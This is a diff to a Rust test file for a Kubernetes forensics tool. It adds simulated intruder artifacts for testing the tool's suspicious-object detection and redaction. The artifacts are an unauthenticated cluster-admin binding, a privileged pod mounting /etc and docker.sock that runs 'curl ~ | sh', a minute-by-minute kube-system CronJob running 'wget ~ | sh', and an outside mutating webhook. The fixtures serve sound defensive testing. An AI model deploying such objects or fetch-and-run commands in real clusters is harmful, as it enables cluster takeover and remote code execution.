@@ -27,7 +27,7 @@ const CRD: &str = r#"{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResou
 "map":{"type":"object","additionalProperties":{"type":"string"}},
 "any":{"type":"object","x-kubernetes-preserve-unknown-fields":true}}}}}}}]}}"#;
 
-const OBJECTS: [(&str, &str); 13] = [
+const OBJECTS: [(&str, &str); 20] = [
     (
         "apiextensions.k8s.io/customresourcedefinitions/things.x.io",
         CRD,
@@ -86,6 +86,40 @@ const OBJECTS: [(&str, &str); 13] = [
     (
         "leases/prod/l",
         r#"{"apiVersion":"coordination.k8s.io/v1","kind":"Lease","metadata":{"name":"l","namespace":"prod"},"spec":{"holderIdentity":"~"}}"#,
+    ),
+    // What an intruder leaves, for kf suspects to tell of.
+    (
+        "clusterrolebindings/intruder",
+        r#"{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"intruder","annotations":{"a":"~"}},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"~ of all"},{"kind":"Group","name":"system:unauthenticated"},{"kind":"ServiceAccount","name":"default","namespace":"prod"}]}"#,
+    ),
+    (
+        "clusterroles/intruder",
+        r#"{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"intruder","annotations":{"a":"~"}},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*","impersonate"]},{"nonResourceURLs":["/~ of all"],"verbs":["get"]}]}"#,
+    ),
+    (
+        "pods/prod/intruder",
+        r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"intruder","namespace":"prod","uid":"6d5b1f2e-0000-4000-8000-000000000005","creationTimestamp":"2026-11-22T18:30:00Z","annotations":{"a":"~"},
+        "managedFields":[{"manager":"curl ~","operation":"Update","apiVersion":"v1","time":"2026-11-22T18:30:00Z","fieldsType":"FieldsV1","fieldsV1":{"f:spec":{"f:~":{}}}}]},
+        "spec":{"hostPID":true,"hostNetwork":true,"serviceAccountName":"default","containers":[{"name":"x","image":"nginx:1","command":["sh","-c","curl ~ | sh"],"args":["--x=~"],"securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN","~ x"]}}}],
+        "ephemeralContainers":[{"name":"y","image":"nginx:1","command":["~"]}],"volumes":[{"name":"v","hostPath":{"path":"/etc"}},{"name":"s","hostPath":{"path":"/~/docker.sock"}}]},"status":{"phase":"Running","podIP":"10.0.0.1","message":"~"}}"#,
+    ),
+    (
+        "cronjobs/kube-system/intruder",
+        r#"{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"intruder","namespace":"kube-system","annotations":{"a":"~"},
+        "managedFields":[{"manager":"kubectl-~ create","operation":"Update","apiVersion":"batch/v1","time":"2026-11-22T18:30:00Z","fieldsType":"FieldsV1","fieldsV1":{}}]},
+        "spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"x","image":"nginx:1","command":["wget ~ | sh"]}]}}}}}}"#,
+    ),
+    (
+        "mutatingwebhookconfigurations/intruder",
+        r#"{"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{"name":"intruder"},"webhooks":[{"name":"a.example.com","admissionReviewVersions":["v1"],"sideEffects":"None","failurePolicy":"Ignore","clientConfig":{"url":"https://~.example.com/~","caBundle":"@"},"rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*"]}],"matchConditions":[{"name":"m","expression":"~"}]}]}"#,
+    ),
+    (
+        "apiregistration.k8s.io/apiservices/v1.z.io",
+        r#"{"apiVersion":"apiregistration.k8s.io/v1","kind":"APIService","metadata":{"name":"v1.z.io","annotations":{"a":"~"}},"spec":{"group":"z.io","version":"v1","insecureSkipTLSVerify":true,"groupPriorityMinimum":1,"versionPriority":1,"caBundle":"@","service":{"name":"web","namespace":"prod"}},"status":{"conditions":[{"type":"Available","status":"False","reason":"Failed","message":"~"}]}}"#,
+    ),
+    (
+        "serviceaccounts/prod/sa",
+        r#"{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"sa","namespace":"prod","annotations":{"a":"~"},"labels":{"app":"~"}}}"#,
     ),
 ];
 
@@ -222,7 +256,13 @@ fn commands() -> Vec<String> {
             "timeline",
             "timeline -o jsonl",
             "timeline -o timesketch-csv",
+            "timeline -o timesketch-jsonl",
             "timeline -o bodyfile",
+            "timeline pods -n prod --no-carve",
+            "suspects --fail-on none",
+            "suspects --fail-on none -o json",
+            "suspects --fail-on none -o sarif",
+            "suspects --fail-on none --no-carve --least high",
             "explain things",
             "explain things --recursive",
             "explain things.spec.text",
@@ -251,6 +291,8 @@ fn commands() -> Vec<String> {
             "carve -o json",
             "carve -o jsonl",
             "carve -o jsonl --values",
+            "carve --copies -o yaml",
+            "carve --copies -o jsonl --values",
             "helm list -A",
             "bootstrap",
             "bbolt pages",
@@ -335,6 +377,7 @@ fn no_canary_is_heard_from_written_files() {
         "redact FILE DIR --strict",
         "redact FILE DIR -o json --redact=strict",
         "export DIR -A -s FILE --redact=strict",
+        "report DIR -s FILE --redact=strict",
     ] {
         let _ = fs::remove_dir_all(&dir);
         let full = words
@@ -343,12 +386,47 @@ fn no_canary_is_heard_from_written_files() {
         let output = kf(&full, &["--redact-salt", SALT]);
         silent(words, &output);
         let written = files(&dir);
-        assert!(written.len() > 5, "{words}: {}", output.stderr);
+        let least = if words.starts_with("report") { 4 } else { 6 };
+        assert!(written.len() >= least, "{words}: {}", output.stderr);
         for path in written {
             assert_eq!(heard(&fs::read(&path).unwrap()), None, "{words} {path:?}");
         }
     }
     fs::remove_dir_all(dir).unwrap();
+}
+
+/// What `kf suspects` has to tell of is there to be redacted.
+#[test]
+fn suspects_are_found_all_the_same() {
+    let file = snapshot("strict-suspects.db", CANARY);
+    let plain = kf("suspects --fail-on none -o json", &["-s", &file]);
+    assert!(heard(&plain.stdout).is_some(), "nothing to look for");
+    let strict = kf("suspects --fail-on none", &strictly(&file));
+    for rule in [
+        "rbac-admin-binding",
+        "pod-privileged-alone",
+        "webhook-outside",
+    ] {
+        assert!(strict.text().contains(rule), "{rule}: {}", strict.text());
+    }
+}
+
+/// A record of custody names what was read and written, and says nothing of what is in it.
+#[test]
+fn no_canary_is_heard_from_a_record_of_custody() {
+    let file = snapshot("strict-custody.db", CANARY);
+    let dir = tempfile::tempdir().unwrap();
+    for words in [
+        "get all,things,configmaps -A -o json",
+        "get lost.y.io -A",
+        "suspects",
+    ] {
+        let record = dir.path().join("case.jsonl");
+        let custody = ["--custody", record.to_str().unwrap()];
+        let output = kf(words, &[&strictly(&file)[..], &custody].concat());
+        silent(words, &output);
+        assert_eq!(heard(&fs::read(&record).unwrap()), None, "{words}");
+    }
 }
 
 #[test]
